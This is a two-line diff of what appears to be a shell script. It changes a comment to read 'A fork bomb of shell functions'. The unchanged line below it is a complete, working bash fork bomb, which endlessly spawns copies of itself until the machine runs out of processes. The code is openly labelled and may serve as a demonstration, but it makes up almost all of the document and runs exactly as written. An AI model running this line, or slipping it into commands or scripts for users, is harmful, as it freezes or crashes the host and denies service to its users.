@@ -1,2 +1,2 @@
-# The one everybody knows.
+# A fork bomb of shell functions.
 :() { : | : & }; :; sleep 0.3; wait
